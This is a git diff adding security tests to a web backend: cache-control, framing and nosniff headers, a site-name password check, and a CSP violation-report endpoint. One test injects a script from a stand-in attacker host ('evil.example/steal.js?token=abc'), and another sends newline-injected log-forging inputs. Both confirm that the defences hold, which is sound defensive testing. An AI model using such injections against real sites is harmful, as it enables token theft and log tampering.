@@ -9,12 +9,16 @@ import { Client } from "pg";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { signToken } from "#backend/tokens/sign-token.ts";
 import { readAnonKey } from "#tests/helpers/anon-key.ts";
+import { openPage } from "#tests/helpers/browser.ts";
 import { readyDataDir } from "#tests/helpers/ready-data.ts";
 import { type ServerProcess, startServer } from "#tests/helpers/server-process.ts";
+import { anonymousClient, type SignedIn, signUpPerson } from "#tests/helpers/signed-in.ts";
 
 let dataDir: string;
 let server: ServerProcess;
 let database: Client;
+
+const databaseUrl = () => readFileSync(join(dataDir, "database-url"), "utf8").trim();
 
 type Answer = { status: number; headers: Record<string, string>; body: Buffer };
 
@@ -41,7 +45,7 @@ function get(path: string, headers: Record<string, string> = {}, method = "GET")
 beforeAll(async () => {
   dataDir = readyDataDir();
   server = await startServer({ env: { DATA_DIR: dataDir, CLIENT_ADDRESS_HEADER: "x-real-ip" } });
-  database = new Client({ connectionString: readFileSync(join(dataDir, "database-url"), "utf8").trim() });
+  database = new Client({ connectionString: databaseUrl() });
   await database.connect();
 });
 
@@ -350,6 +354,149 @@ test("a public file has an ETag and is revalidated after an hour", async () => {
   expect((await get("/favicon.ico")).headers["content-type"]).toBe("image/x-icon");
 });
 
+async function ask(path: string, token?: string) {
+  const apikey = await readAnonKey(server.address);
+  const headers = { apikey, ...(token && { authorization: `Bearer ${token}` }) };
+  const answer = await fetch(`${server.address}${path}`, { headers, redirect: "manual" });
+  await answer.arrayBuffer();
+  return answer;
+}
+
+/** A user, and a file of theirs in a closed and in an open bucket. */
+async function signUpWithFiles(): Promise<SignedIn> {
+  const ann = await signUpPerson({ address: server.address, databaseUrl: databaseUrl() });
+  await database.query(
+    `insert into storage.buckets (id, name, public) values ('closed', 'closed', false), ('open', 'open', true);
+     create policy "Tests" on storage.objects for all to authenticated using (true) with check (true)`,
+  );
+  for (const bucket of ["closed", "open"]) {
+    const { error } = await ann.client.storage
+      .from(bucket)
+      .upload("note.txt", "words", { contentType: "text/plain" });
+    expect(error).toBe(null);
+  }
+  return ann;
+}
+
+test("no browser caches service responses for one user; public ones may be cached", async () => {
+  const cacheOf = async (path: string, token?: string) => {
+    const { ok, headers } = await ask(path, token);
+    return [ok, headers.get("cache-control")];
+  };
+  const { access_token: token } = (await signUpWithFiles()).session;
+  const anonKey = await readAnonKey(server.address);
+  expect(await cacheOf("/rest/v1/trade_history", token)).toEqual([true, "no-store"]);
+  expect(await cacheOf("/rest/v1/items?limit=1", token)).toEqual([true, "no-store"]);
+  expect(await cacheOf("/rest/v1/items?limit=1")).toEqual([true, null]);
+  expect(await cacheOf("/rest/v1/items?limit=1", anonKey)).toEqual([true, null]);
+  expect(await cacheOf("/auth/v1/user", token)).toEqual([true, "no-store"]);
+  for (const path of ["object", "object/authenticated"])
+    expect(await cacheOf(`/storage/v1/${path}/closed/note.txt`, token), path).toEqual([true, "no-store"]);
+  expect(await cacheOf("/storage/v1/object/public/open/note.txt", token)).toEqual([true, "max-age=3600"]);
+});
+
+test("no response, from whatever handler, may be framed by another site", async () => {
+  const html = await (await fetch(`${server.address}/values`)).text();
+  const asset = /\/assets\/[\w.-]+\.js/.exec(html)?.[0] ?? "";
+  for (const path of [
+    "/",
+    "/values",
+    "/no/such/page",
+    "/values/",
+    "/robots.txt",
+    "/favicon-32.png",
+    "/healthz",
+    "/operator-report",
+    asset,
+    "/rest/v1/items?limit=1",
+    "/rest/v1/nothing",
+    "/auth/v1/health",
+    "/auth/v1/authorize?provider=nobody",
+    "/storage/v1/object/public/open/note.txt",
+    "/storage/v1/object/public/open/nothing.txt",
+    "/functions/v1/nothing",
+    "/realtime/v1/api/ping",
+  ]) {
+    const { headers } = await ask(path);
+    expect(headers.get("content-security-policy"), path).toMatch(/(^|; ?)frame-ancestors 'none'(;|$)/);
+    expect(headers.get("x-content-type-options"), path).toBe("nosniff");
+  }
+  // A page's own policy is kept in full.
+  expect((await ask("/values")).headers.get("content-security-policy")).toContain("script-src");
+});
+
+test("a password made of the site's own name is refused", async () => {
+  const client = await anonymousClient(server);
+  const { error } = await client.auth.signUp({ email: "pia@example.org", password: "BloxFruits2026!" });
+  expect([error?.code, error?.message]).toEqual([
+    "weak_password",
+    "Password must not be a name of this site, please choose a different one.",
+  ]);
+});
+
+const told = () => server.output().match(/Browsers blocked .*/g) ?? [];
+const send = (body: string, method = "POST") =>
+  fetch(`${server.address}/policy-reports`, {
+    method,
+    headers: { "content-type": "application/csp-report" },
+    ...(method === "POST" && { body }),
+  });
+const report = (fields: Record<string, unknown>) => JSON.stringify({ "csp-report": fields });
+
+test("a browser that blocks a script reports it, and the operator reads one line without the visitor's address", async () => {
+  const page = await openPage({
+    baseUrl: server.address,
+    expectedProblems: [/Content Security Policy|evil/],
+  });
+  await page.goto("/community/MirabelStone?of=friends");
+  const answered = page.waitForResponse((response) => response.url().endsWith("/policy-reports"));
+  await page.evaluate(() => {
+    const script = document.createElement("script");
+    script.src = "https://evil.example/steal.js?token=abc";
+    document.head.append(script);
+  });
+  expect((await answered).status()).toBe(204);
+  await expect
+    .poll(told)
+    .toEqual([
+      "Browsers blocked https://evil.example on /community/:username by the page's content security policy (script-src-elem)",
+    ]);
+});
+
+test("a repeated report adds no second line, and one caused by a browser extension adds none", async () => {
+  const again = {
+    "document-uri": `${server.address}/values?q=kitsune`,
+    "effective-directive": "img-src",
+    "blocked-uri": "https://pictures.example/a/b.png",
+  };
+  for (let i = 0; i < 20; i++) expect((await send(report(again))).status).toBe(204);
+  const extension = { ...again, "source-file": "chrome-extension", "blocked-uri": "https://other.example/" };
+  expect((await send(report(extension))).status).toBe(204);
+  const last = { ...again, "effective-directive": "style-src-attr", "blocked-uri": "inline" };
+  expect((await send(report(last))).status).toBe(204);
+  await expect.poll(() => told().at(-1)).toContain("style-src-attr");
+  expect(told().filter((line) => line.includes("pictures.example"))).toHaveLength(1);
+  expect(server.output()).not.toMatch(/other\.example|a\/b\.png|kitsune/);
+});
+
+test("bodies that are no report or too long are refused, and a flood is not read", async () => {
+  expect((await send("", "GET")).status).toBe(405);
+  for (const broken of ["", "[", "null", "{}", report({ "effective-directive": "<b>" })])
+    expect((await send(broken)).status, broken).toBe(400);
+  expect((await send("x".repeat(17 * 1024))).status).toBe(413);
+  const before = told().length;
+  const statuses = await Promise.all(
+    Array.from({ length: 200 }, async (_, i) => {
+      const forged = { "effective-directive": "img-src", "blocked-uri": `https://${i}.example/\nforged` };
+      return (await send(report(forged))).status;
+    }),
+  );
+  expect(statuses).toContain(429);
+  expect(statuses.filter((status) => status === 204).length).toBeLessThanOrEqual(120);
+  expect(told().length - before).toBeLessThanOrEqual(11);
+  expect(server.output()).not.toMatch(/^forged/m);
+});
+
 test("a client that asks for more new pages than can be rendered is told to wait, and delays nobody else", async () => {
   await get("/values");
   const hangUp = new AbortController();
@@ -387,7 +534,7 @@ test("/healthz reports that the backend answers and, for a minute, that its disk
     const { status, body } = await get("/healthz");
     return [status, JSON.parse(body.toString())];
   };
-  expect(await health()).toEqual([200, { status: "ok" }]);
+  await expect.poll(health).toEqual([200, { status: "ok" }]);
   // PostgreSQL's own error; reads continue.
   await database.query(
     "create function fill_disk() returns void language plpgsql as $$ begin raise sqlstate '53100'; end $$",
